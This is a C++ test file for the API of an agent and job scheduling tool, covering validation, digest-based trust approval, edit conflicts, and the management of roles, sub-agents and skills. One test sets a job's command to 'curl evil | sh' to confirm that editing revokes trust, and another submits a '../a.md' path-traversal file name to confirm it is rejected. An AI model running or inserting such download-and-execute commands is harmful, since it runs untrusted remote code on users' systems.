#include "api_fixture.hpp"
#include "changeling/fields.hpp"
#include "changeling/record_fields.hpp"
#include "server/api/route.hpp"

using namespace changeling;
using testing::Api;
using testing::ApiAnswer;
using namespace std::string_literals;

namespace {

const server::api::Route& route_of(std::string_view operation) {
  for (const server::api::Route& route : server::api::routes()) {
    if (route.operation == operation) return route;
  }
  throw std::runtime_error("no such operation");
}

server::api::FieldKind described_kind(FieldKind kind) {
  using Kind = server::api::FieldKind;
  switch (kind) {
    case FieldKind::Boolean:
      return Kind::Boolean;
    case FieldKind::Integer:
      return Kind::Integer;
    case FieldKind::Money:
      return Kind::Number;
    case FieldKind::TextList:
      return Kind::TextList;
    case FieldKind::TextMap:
      return Kind::TextMap;
    default:
      return Kind::Text;
  }
}

/// Every field of the table stands in the operation's body, of the right kind; and nothing but `besides`.
template <typename Table>
void check_described(std::string_view operation, const Table& table, std::size_t besides) {
  const server::api::Route& route = route_of(operation);
  CHECK(route.body.size() == table.size() + besides);
  for (const auto& field : table) {
    INFO(operation << " " << field.key);
    const auto found = std::find_if(route.body.begin(), route.body.end(),
                                    [&](const auto& described) { return described.name == field.key; });
    REQUIRE(found != route.body.end());
    CHECK(found->kind == described_kind(field.kind));
    CHECK(found->words == field.choices);
  }
}

/// What the API says of something that could run.
Json standing_of(Api& api, const std::string& name) {
  const ApiAnswer answer = api.get("/trust");
  for (const Json& standing : answer.json.at("approvals")) {
    if (standing.at("name") == name) return standing;
  }
  return {{"trusted", false}, {"digest", ""}};
}

bool is_trusted(Api& api, const std::string& name) {
  return standing_of(api, name).at("trusted").get<bool>();
}

std::string digest_of(Api& api, const std::string& name) {
  return standing_of(api, name).at("digest").get<std::string>();
}

}  // namespace

TEST_CASE("the description has every field of the tables, of the right kind and with the same words") {
  check_described("createChangeling", definition_fields(), 1);
  check_described("editChangeling", definition_fields(), 1);
  check_described("createRole", role_fields(), 1);
  check_described("editRole", role_fields(), 0);
  check_described("createAgent", subagent_fields(), 1);
  check_described("editAgent", subagent_fields(), 0);
}

TEST_CASE("forms that are made from the description say of each field what the command line says") {
  Api api;
  const Json described = api.get("/openapi.json").json.at("components").at("schemas").at("ChangelingFields");
  for (const FieldSpec& field : definition_fields()) {
    INFO(field.key);
    CHECK(described.at("properties").at(std::string(field.key)).at("description") == field.help);
  }
}

TEST_CASE("a changeling is added and shown with where its values come from, and is not trusted by that") {
  Api api;
  const ApiAnswer added = api.post("/changelings", {{"name", "sprite"},
                                                    {"run", "make fmt"},
                                                    {"schedule", "H 3 * * *"},
                                                    {"env", {{"A", "1"}}},
                                                    {"max_turns", 3},
                                                    {"budget", 1.5},
                                                    {"labels", {"bot"}},
                                                    {"draft", true}});
  INFO(added.text);
  CHECK(added.status == 201);
  CHECK(added.headers.at("location") == "changelings/sprite");
  CHECK(added.json.at("agent") == "command");
  CHECK(added.json.at("env") == Json{{"A", "1"}});
  CHECK(added.json.at("trusted") == false);
  CHECK(added.json.at("origins").at("run") == "refs/changelings/state");
  CHECK(added.json.at("schedule_spread").get<std::string>().ends_with(" 3 * * *"));
  CHECK(!is_trusted(api, "sprite"));
  CHECK(api.get("/changelings/sprite").json == added.json);
  const Json listed = api.get("/changelings").json.at("changelings").front();
  CHECK(listed.at("name") == "sprite");
  CHECK(listed.at("trusted") == false);
  CHECK(api.messages.empty());
}

TEST_CASE("what cannot be a changeling is refused with the field") {
  Api api;
  const auto refused = [&](Json body, int status) {
    const ApiAnswer answer = api.post("/changelings", body);
    INFO(answer.text);
    CHECK(answer.status == status);
    return answer;
  };
  CHECK(refused({{"name", "sprite"}, {"schdule", "@daily"}, {"run", "x"}}, 422).hint() ==
        "did you mean schedule?");
  CHECK(refused({{"name", "sprite"}, {"schedule", "61 * * * *"}, {"run", "x"}}, 422)
            .detail()
            .starts_with("schedule: "));
  CHECK(refused({{"name", "sprite"}}, 422).hint() == "give template, prompt or run");
  CHECK(refused({{"name", "a/b"}, {"run", "x"}}, 422).kind() == "invalid");
  CHECK(refused({{"name", "sprite"}, {"overlap", "skp"}, {"run", "x"}}, 422).hint().find("skip") !=
        std::string::npos);
  CHECK(refused({{"run", "x"}}, 422).detail() == "name: is missing");
  CHECK(refused({{"name", "sprite"}, {"run", "x\0y"s}}, 422).kind() == "invalid");
  CHECK(refused({{"name", "typo-sprite"}}, 201).json.at("template") == "typo-sprite");
  CHECK(refused({{"name", "typo-sprite"}}, 409).kind() == "conflict");
}

TEST_CASE("approving needs the digest that was shown, and a change through the API takes the approval away") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "make fmt"}});
  const ApiAnswer wrong = api.post("/trust", {{"name", "sprite"}, {"digest", "0123"}});
  CHECK(wrong.status == 412);
  CHECK(wrong.json.at("current").at("record").get<std::string>().find("make fmt") != std::string::npos);
  const ApiAnswer approved = api.post("/trust", {{"name", "sprite"}, {"digest", digest_of(api, "sprite")}});
  CHECK(approved.json.at("trusted") == true);
  CHECK(api.get("/changelings/sprite").json.at("trusted") == true);
  const ApiAnswer edited = api.ask("PATCH", "/changelings/sprite", {{"run", "curl evil | sh"}});
  CHECK(edited.json.at("trusted") == false);
  CHECK(!is_trusted(api, "sprite"));
  CHECK(api.post("/trust", {{"name", "sprit"}, {"digest", "0"}}).hint() == "did you mean 'sprite'?");
}

TEST_CASE("an approval is taken back, also one of something that is gone") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "make fmt"}});
  api.post("/trust", {{"name", "sprite"}, {"digest", digest_of(api, "sprite")}});
  CHECK(api.ask("DELETE", "/trust/sprite").json.at("untrusted") == Json{"sprite"});
  CHECK(!is_trusted(api, "sprite"));
  CHECK(api.ask("DELETE", "/trust/sprite").status == 404);
}

TEST_CASE("fields of a changeling are changed, or left to template and defaults again") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "make fmt"}, {"timeout", "5m"}, {"labels", {"a"}}});
  const ApiAnswer edited =
      api.ask("PATCH", "/changelings/sprite", {{"labels", {"b"}}, {"reset", {"timeout"}}});
  CHECK(edited.status == 200);
  CHECK(edited.json.at("labels") == Json{"b"});
  CHECK(edited.json.at("timeout") == "30m");
  CHECK(edited.json.at("run") == "make fmt");
  CHECK(api.ask("PATCH", "/changelings/sprite", {{"reset", {"tmeout"}}}).status == 422);
  CHECK(api.ask("PATCH", "/changelings/sprit", {{"timeout", "1m"}}).hint().find("sprite") !=
        std::string::npos);
}

TEST_CASE("a changeling is switched off and on, and stays trusted by that") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "make fmt"}});
  api.post("/trust", {{"name", "sprite"}, {"digest", digest_of(api, "sprite")}});
  CHECK(api.post("/changelings/sprite/disable").json.at("enabled") == false);
  const ApiAnswer enabled = api.post("/changelings/sprite/enable");
  CHECK(enabled.json.at("enabled") == true);
  CHECK(enabled.json.at("trusted") == true);
  CHECK(api.post("/changelings/nobody/enable").status == 404);
}

TEST_CASE("a changeling of the state is removed, and one of the file is not") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "make fmt"}});
  api.write_definitions("[changelings.filed]\nrun = \"true\"\n");
  CHECK(api.ask("DELETE", "/changelings/sprite").json.at("removed") == Json{"sprite"});
  CHECK(api.get("/changelings/sprite").status == 404);
  CHECK(api.ask("DELETE", "/changelings/filed").kind() == "refused");
  CHECK(api.get("/changelings/filed").json.at("source") == "file");
}

TEST_CASE("a changeling that was changed meanwhile is not overwritten, and both texts are shown") {
  Api api;
  api.post("/changelings", {{"name", "sprite"}, {"run", "one"}});
  const std::string tag = api.get("/changelings/sprite").tag();
  api.ask("PATCH", "/changelings/sprite", {{"run", "two"}});
  const ApiAnswer ours = api.ask("PATCH", "/changelings/sprite", {{"run", "three"}}, {{"if-match", tag}});
  CHECK(ours.status == 412);
  CHECK(ours.json.at("yours").at("record") == "run = \"one\"\n");
  CHECK(ours.json.at("current").at("record") == "run = \"two\"\n");
}

TEST_CASE("a role is added, changed and removed, and is not trusted by that") {
  Api api;
  const ApiAnswer added =
      api.post("/roles", {{"name", "writer"}, {"prompt", "Write."}, {"accept", {"file:a"}}});
  INFO(added.text);
  CHECK(added.status == 201);
  CHECK(added.headers.at("location") == "roles/writer");
  CHECK(added.json.at("agent") == "claude");
  CHECK(!is_trusted(api, "writer"));
  CHECK(api.post("/roles", {{"name", "writer"}, {"prompt", "x"}}).status == 409);
  CHECK(api.get("/roles").json.at("roles").front().at("label") == "role-writer");
  const ApiAnswer edited = api.ask("PATCH", "/roles/writer", {{"run", "make"}}, {{"if-match", added.tag()}});
  INFO(edited.text);
  CHECK(edited.json.at("agent") == "command");
  CHECK(edited.json.at("accept") == Json{"file:a"});
  CHECK(api.ask("PATCH", "/roles/writer", {{"interactive", true}}, {{"if-match", added.tag()}}).status ==
        412);
  CHECK(api.ask("PATCH", "/roles/writr", {{"prompt", "x"}}).hint() == "did you mean 'writer'?");
  CHECK(api.post("/roles", {{"name", "empty"}}).status == 400);
  CHECK(api.get("/roles/writer").json == edited.json);
  CHECK(api.ask("DELETE", "/roles/writer").json.at("removed") == Json{"writer"});
  CHECK(api.get("/roles/writer").status == 404);
}

TEST_CASE("a sub-agent is added, changed and removed, and is not trusted by that") {
  Api api;
  const ApiAnswer added =
      api.post("/agents", {{"name", "reader"}, {"description", "Reads"}, {"instructions", "Read."}});
  INFO(added.text);
  CHECK(added.status == 201);
  CHECK(added.headers.at("location") == "agents/reader");
  CHECK(!is_trusted(api, "reader"));
  CHECK(api.post("/agents", {{"name", "reader"}, {"description", "x"}, {"instructions", "y"}}).status == 409);
  CHECK(api.post("/agents", {{"name", "Reader"}, {"description", "x"}, {"instructions", "y"}}).status == 422);
  CHECK(api.post("/agents", {{"name", "silent"}, {"description", "x"}}).status == 422);
  CHECK(api.get("/agents").json.at("agents").size() == 6);
  const ApiAnswer edited =
      api.ask("PATCH", "/agents/reader", {{"skills", {"question-asking"}}, {"working_directory", "docs"}},
              {{"if-match", added.tag()}});
  INFO(edited.text);
  CHECK(edited.json.at("skills") == Json{"question-asking"});
  CHECK(edited.json.at("instructions") == "Read.");
  CHECK(api.ask("PATCH", "/agents/reader", {{"description", "x"}}, {{"if-match", added.tag()}}).status ==
        412);
  CHECK(api.ask("PATCH", "/agents/reader", {{"skills", {"nothing"}}}).status == 404);
  CHECK(api.ask("PATCH", "/agents/readr", {{"description", "x"}}).hint() == "did you mean 'reader'?");
  CHECK(api.get("/agents/reader").json == edited.json);
  CHECK(api.ask("PATCH", "/agents/planning", {{"description", "Plans here"}}).json.at("source") == "state");
  CHECK(api.ask("DELETE", "/agents/planning").status == 200);
  CHECK(api.ask("DELETE", "/agents/planning").status == 409);
  CHECK(api.ask("DELETE", "/agents/reader").json.at("removed") == Json{"reader"});
  CHECK(api.get("/agents/reader").status == 404);
}

TEST_CASE("a skill is added by its text or by its files, changed and removed, and is not trusted by that") {
  Api api;
  const ApiAnswer added =
      api.post("/skills", {{"name", "greet"}, {"description", "How"}, {"instructions", "Say hello."}});
  INFO(added.text);
  CHECK(added.status == 201);
  CHECK(added.headers.at("location") == "skills/greet");
  CHECK(!is_trusted(api, "greet"));
  const std::string text = added.json.at("files").front().at("text").get<std::string>();
  CHECK(text == "---\nname: greet\ndescription: \"How\"\n---\n\nSay hello.\n");
  CHECK(api.post("/skills", {{"name", "greet"}, {"files", {{"SKILL.md", text}}}}).status == 409);
  CHECK(api.post("/skills", {{"name", "other"}, {"files", {{"SKILL.md", text}}}}).status == 422);
  CHECK(api.post("/skills", {{"name", "empty"}}).status == 422);
  const ApiAnswer edited =
      api.ask("PATCH", "/skills/greet", {{"files", {{"SKILL.md", text}, {"more/a.md", "x"}}}},
              {{"if-match", added.tag()}});
  INFO(edited.text);
  CHECK(edited.json.at("files").size() == 2);
  CHECK(api.ask("PATCH", "/skills/greet", {{"description", "x"}}, {{"if-match", added.tag()}}).status == 412);
  const ApiAnswer said = api.ask("PATCH", "/skills/greet", {{"description", "Why"}});
  CHECK(said.json.at("description") == "Why");
  CHECK(said.json.at("files").size() == 2);
  CHECK(api.ask("PATCH", "/skills/greet", {{"files", {{"SKILL.md", text}, {"../a.md", "x"}}}}).status == 422);
  CHECK(api.get("/skills").json.at("skills").size() == 2);
  CHECK(api.get("/skills/greet").json == said.json);
  CHECK(api.ask("DELETE", "/skills/question-asking").status == 409);
  CHECK(api.ask("DELETE", "/skills/greet").json.at("removed") == Json{"greet"});
  CHECK(api.get("/skills/greet").status == 404);
}

TEST_CASE("a task of a role brings the role's criteria along") {
  Api api;
  api.post("/roles", {{"name", "writer"}, {"prompt", "Write."}, {"accept", {"file:a"}}});
  const std::string id = api.add_task("text", {{"role", "writer"}});
  CHECK(api.get("/tasks/" + id).json.at("acceptance") == Json{"file:a"});
  CHECK(api.ask("PATCH", "/tasks/" + id, {{"role", ""}}).json.at("acceptance") == Json::array());
}
